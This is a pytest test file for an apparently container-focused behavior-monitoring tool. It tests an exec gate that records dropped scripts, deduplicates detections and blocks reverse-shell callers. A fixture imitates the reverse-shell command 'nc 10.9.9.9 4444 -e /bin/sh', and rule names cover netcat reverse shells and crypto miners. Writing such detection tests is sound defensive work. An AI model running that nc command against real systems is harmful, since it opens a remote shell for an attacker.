"""The exec gate records path-only rules (scripts, programs too short-lived for /proc) once per
execution; parents are the ones at the time of the exec, not when the worker gets to it."""

from __future__ import annotations

import os
import subprocess
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from hullguard.behavior.event import EventType
from hullguard.behavior.gate import GateRecords, gate_rules
from hullguard.behavior.procconn import PROC_EVENT_EXEC, PROC_EVENT_EXIT, PROC_EVENT_FORK, ProcEvent
from hullguard.behavior.procfs import ProcessTable, ProcInfo
from hullguard.behavior.ruleset import load_rules, load_rules_text
from hullguard.behavior.service import BehaviorService, ServiceOptions
from hullguard.journal.record import DetectionRecord
from hullguard.runtime.docker import ContainerInfo

CID = "c0ffee" * 10 + "abcd"
DRIFT = "Drift - binary not from the image executed"
TMP = "Execution from /tmp or /dev/shm"
GONE = 999_999_999  # no such pid: the gate knows the path only


class Meta:
    def __init__(self, upper: str) -> None:
        self.info = ContainerInfo(CID, "web", "app:1", "sha256:x", "/m", upper, 0, True)

    def get(self, container_id: str) -> ContainerInfo | None:
        return self.info if container_id == CID else None


class Sink:
    def __init__(self) -> None:
        self.records: list[DetectionRecord] = []

    def __call__(self, factory: object) -> None:
        record = factory()  # type: ignore[operator]
        if record is not None:
            self.records.append(record)

    def of(self, rule: str) -> list[DetectionRecord]:
        return [r for r in self.records if r.detection == rule]


def service(tmp_path: Path, rules_text: str | None = None) -> tuple[BehaviorService, Sink]:
    sink = Sink()
    rules = load_rules_text(rules_text) if rules_text else load_rules([], include_default=True)
    svc = BehaviorService(ServiceOptions(file_events=False), sink, Meta(str(tmp_path)), rules=rules,
                          follow_docker=False)
    return svc, sink


def upper(tmp_path: Path, *paths: str) -> None:
    for p in paths:
        f = tmp_path / p.lstrip("/")
        f.parent.mkdir(parents=True, exist_ok=True)
        f.write_text("x")


def test_default_gate_sets() -> None:
    deny, record, caller = gate_rules(load_rules([], include_default=True))
    assert {r.name for r in record} == {DRIFT, TMP}  # path-only rules; proc.name rules are not
    assert "Crypto miner" in {r.name for r in deny}
    assert {"Netcat or socat reverse shell", "Crypto miner"} <= {r.name for r in caller} <= {r.name for r in deny}
    # a record rule with an exception on the command line cannot be decided before the exec
    rs = load_rules_text("- rule: r\n  condition: evt.type = execve and proc.exe startswith /opt\n"
                         "  exceptions:\n    - name: e\n      fields: proc.cmdline\n      values: [x]\n"
                         "- rule: s\n  condition: evt.type = execve and proc.exe startswith /opt\n")
    assert [r.name for r in gate_rules(rs)[1]] == ["s"]


def test_dropped_script_is_recorded_by_the_gate_not_denied(tmp_path: Path) -> None:
    """A ``#!`` script: the gate is the only place that sees its path (the proc connector's
    proc.exe is the interpreter); drift and /tmp only record by default."""
    upper(tmp_path, "/root/run.sh", "/tmp/t.sh")
    svc, sink = service(tmp_path)
    assert svc.gate.should_deny(GONE, b"/root/run.sh", CID) is None
    assert svc.gate.should_deny(GONE, "/tmp/t.sh", CID) is None
    assert svc.gate.should_deny(GONE, "/bin/busybox", CID) is None  # the interpreter: from the image
    assert {r.object for r in sink.of(DRIFT)} == {f"docker://app:1@{CID}/root/run.sh",
                                                  f"docker://app:1@{CID}/tmp/t.sh"}
    assert {(r.action, r.event) for r in sink.of(DRIFT)} == {("Retained", "Event occurred on executing a file.")}
    assert {r.object for r in sink.of(TMP)} == {f"docker://app:1@{CID}/tmp/t.sh"}
    assert {r.action for r in sink.of(TMP)} == {"Retained"}
    assert svc.gate.should_deny(GONE, "/tmp/t.sh", "") is None  # host: no container rule
    assert len(sink.records) == 3 and svc.stats()["gate_recorded"] == 3, [(r.detection, r.object) for r in sink.records]


def proc_exec(svc: BehaviorService, pid: int, exe: str) -> None:
    info = ProcInfo(pid, 1, 7, exe.rsplit("/", 1)[-1], exe, (exe,), 0, -1, 0, 9, CID)
    svc.process(svc.enricher.exec_event(info, ancestors=()))


def test_one_execution_one_record(tmp_path: Path) -> None:
    """A dropped binary is seen by the gate and again by the proc connector: recorded once."""
    upper(tmp_path, "/tmp/tool")
    svc, sink = service(tmp_path)
    pid = 4242
    svc.gate.should_deny(pid, "/tmp/tool", CID)
    assert {r.detection for r in sink.records} == {DRIFT, TMP} and len(sink.records) == 2
    proc_exec(svc, pid, "/tmp/tool")
    assert len(sink.records) == 2 and svc.gate_deduplicated == 2
    # the same process executing it again is a second execution, a second record each
    svc.gate.should_deny(pid, "/tmp/tool", CID)
    proc_exec(svc, pid, "/tmp/tool")
    assert len(sink.records) == 4
    # without a gate event (real-time protection off) the proc connector path records it
    proc_exec(svc, pid + 1, "/tmp/tool")
    assert len(sink.records) == 6


def test_gate_records_are_bounded_and_expire() -> None:
    seen = GateRecords(capacity=2, ttl=0.05)
    seen.add(1, "r", "/a")
    seen.add(1, "r", "/a")
    assert seen.claim(1, "r", "/a") and seen.claim(1, "r", "/a") and not seen.claim(1, "r", "/a")
    for pid in range(5):
        seen.add(pid, "r", "/a")
    assert len(seen) == 2 and not seen.claim(0, "r", "/a")
    time.sleep(0.06)
    assert not seen.claim(4, "r", "/a")


def ev(what: int, pid: int, parent: int = 0, seq: int = 0) -> ProcEvent:
    return ProcEvent(what, 0, seq, 0, pid, pid, parent_tgid=parent)


def test_parent_is_the_one_at_the_time_of_the_exec(tmp_path: Path) -> None:
    """``sh -c 'a && b'``: the shell execs b right after a exits; a's event, evaluated later by
    the worker, still names sh as its parent. A subshell (a fork that never execs) is named
    after the program it runs, without reading /proc."""
    sh, a, sub, c = 100, 101, 102, 103
    procs: dict[int, ProcInfo] = {
        sh: ProcInfo(sh, 1, 50, "sh", "/bin/busybox", ("sh", "-c", "a && b"), 0, -1, 0, 5, CID)}
    svc, sink = service(tmp_path, "- rule: every exec\n  condition: evt.type = execve and container.id != \"\"\n"
                                  "  output: name=%proc.name parent=%proc.pname ancestors=%proc.aname\n")
    svc.enricher.table = ProcessTable(read=lambda pid, _cid, _fd=None: procs.get(pid))
    svc.container_of = lambda pid, _fd=None: CID if pid in procs else None  # type: ignore[method-assign]
    svc.open_proc = lambda pid: os.open("/proc/self", os.O_PATH | os.O_DIRECTORY) if pid in procs else None
    svc.accept([ev(PROC_EVENT_EXEC, sh)])
    procs[a] = ProcInfo(a, sh, 51, "a", "/bin/a", ("a",), 0, -1, 0, 6, CID)
    svc.accept([ev(PROC_EVENT_FORK, a, sh), ev(PROC_EVENT_EXEC, a), ev(PROC_EVENT_FORK, sub, sh)])
    # a exits, the shell becomes b, the subshell's child c runs: all before the worker runs
    procs[sh] = replace(procs[sh], comm="b", exe="/bin/b", argv=("b",))
    procs[c] = ProcInfo(c, sub, 53, "c", "/bin/c", ("c",), 0, -1, 0, 8, CID)
    svc.accept([ev(PROC_EVENT_EXIT, a), ev(PROC_EVENT_EXEC, sh), ev(PROC_EVENT_FORK, c, sub),
                ev(PROC_EVENT_EXEC, c)])
    svc.drain()
    infos = [r.info for r in sink.records]
    assert any(i.startswith("name=a parent=sh ") for i in infos), infos
    assert any(i.startswith("name=b ") for i in infos), infos
    # c's parent is the subshell (forked while sh was still sh); the shell itself is b by then
    assert any(i.startswith("name=c parent=sh ancestors=sh,b") for i in infos), infos
    assert svc.stats()["unenriched"] == 0


def test_exit_and_pid_reuse_make_an_entry_stale() -> None:
    info = ProcInfo(7, 1, 5, "old", "/old", ("old",), 0, -1, 0, 2, "")
    procs = {7: info}
    table = ProcessTable(read=lambda pid, _cid, _fd=None: procs.get(pid))
    table.on_exec(7, "")
    assert table.current(7) == info
    table.mark_stale(7)
    assert table.current(7) is None and table.cached(7) == info  # still there for late file events
    table.on_exec(7, "")
    table.on_fork(7, 12345)  # pid 7 reused by a child of a process we never saw
    assert table.current(7) is None
    assert EventType.EXECVE == "execve"


NC = "Netcat or socat reverse shell"


@pytest.fixture
def fake_nc(tmp_path: Path) -> Iterator[subprocess.Popen[bytes]]:
    """A live process the kernel calls ``nc`` with nc's reverse-shell arguments (a shell under that
    name, sleeping): what the gate sees when ``nc host port -e /bin/sh`` calls execve."""
    link = tmp_path / "bin" / "nc"
    link.parent.mkdir()
    link.symlink_to("/bin/sh")
    proc = subprocess.Popen([str(link), "-c", "sleep 30; true", "10.9.9.9", "4444", "-e", "/bin/sh"])
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and b"sleep" not in Path(f"/proc/{proc.pid}/cmdline").read_bytes():
        time.sleep(0.01)
    yield proc
    proc.kill()
    proc.wait()


def test_gate_denies_the_exec_of_a_reverse_shell_caller(tmp_path: Path, fake_nc: subprocess.Popen[bytes]) -> None:
    """nc -e replaces itself with the shell microseconds after it starts; the gate reads nc while
    the kernel holds its execve, refuses it, and the proc connector path does not record it again."""
    svc, sink = service(tmp_path)
    match = svc.gate.should_deny(fake_nc.pid, b"/bin/busybox", CID)
    assert match is not None and match.name == NC
    [rec] = sink.of(NC)
    assert rec.action == "Blocked" and "-e /bin/sh" in rec.info and rec.object.startswith(f"docker://app:1@{CID}/")
    # the reader's capture of the same nc execution: deduplicated, not killed
    info = svc.enricher.table.on_exec(fake_nc.pid, CID)
    assert info is not None
    svc.process(svc.enricher.exec_event(info, ancestors=()))
    assert len(sink.of(NC)) == 1 and svc.gate_deduplicated == 1 and fake_nc.poll() is None
    assert svc.stats()["gate_callers_denied"] == 1
    # the host's processes are not asked (as the proc connector path skips them by default)
    assert svc.gate.should_deny(fake_nc.pid, b"/bin/busybox", "") is None


def test_caller_recorded_by_the_proc_path_first_is_denied_without_a_second_record(
        tmp_path: Path, fake_nc: subprocess.Popen[bytes]) -> None:
    svc, sink = service(tmp_path)
    info = svc.enricher.table.on_exec(fake_nc.pid, CID)
    assert info is not None
    # a start time that is not the process's: the kill is refused (as for a recycled pid), so
    # the process is still there to call execve, as when the kill has not landed yet
    svc.process(svc.enricher.exec_event(replace(info, start=info.start + 1), ancestors=()))
    assert [r.detection for r in sink.records] == [NC]
    assert fake_nc.poll() is None
    assert svc.gate.should_deny(fake_nc.pid, b"/bin/busybox", CID) is not None
    assert len(sink.of(NC)) == 1 and svc.gate.callers_denied == 1


def test_a_plain_caller_is_allowed(tmp_path: Path) -> None:
    svc, sink = service(tmp_path)
    with subprocess.Popen(["sleep", "30"]) as proc:
        try:
            time.sleep(0.05)
            assert svc.gate.should_deny(proc.pid, b"/bin/busybox", CID) is None
        finally:
            proc.kill()
    assert not sink.records and svc.stats()["gate_callers_denied"] == 0


def test_gate_reads_the_caller_only_when_a_rule_asks(tmp_path: Path) -> None:
    """The gate runs while the kernel holds the exec: a host exec, which the default rules
    decide on ``container.id`` alone, costs no /proc read of the caller."""
    svc, sink = service(tmp_path)
    reads: list[int] = []

    def read(pid: int, cid: str | None, _fd: int | None = None) -> ProcInfo | None:
        reads.append(pid)
        return ProcInfo(pid, 1, 5, "python", "/usr/bin/python3", ("python",), 0, -1, 0, pid, cid or "")

    svc.enricher.table = ProcessTable(read=read)
    assert svc.gate.should_deny(os.getpid(), b"/usr/bin/true", "") is None
    assert reads == [] and not sink.records
    svc2, sink2 = service(tmp_path, "- rule: root exec\n  condition: evt.type = execve and user.uid = 0\n"
                                    "  output: by %user.uid\n  response: [record, deny]\n")
    svc2.enricher.table = ProcessTable(read=read)
    assert svc2.gate.should_deny(os.getpid(), b"/usr/bin/true", CID) is not None
    assert reads[:1] == [os.getpid()] and [r.info.split(" [")[0] for r in sink2.records] == ["by 0"]


def test_gate_needs_host_executions_only_for_rules_that_can_match_them(tmp_path: Path) -> None:
    svc, _ = service(tmp_path)
    assert svc.gate.needs_host() is False  # every default rule is about containers
    svc2, _ = service(tmp_path, "- rule: host tmp\n  condition: evt.type = execve and proc.exe startswith /tmp/\n"
                                "  output: x\n  response: [record, deny]\n")
    assert svc2.gate.needs_host() is True
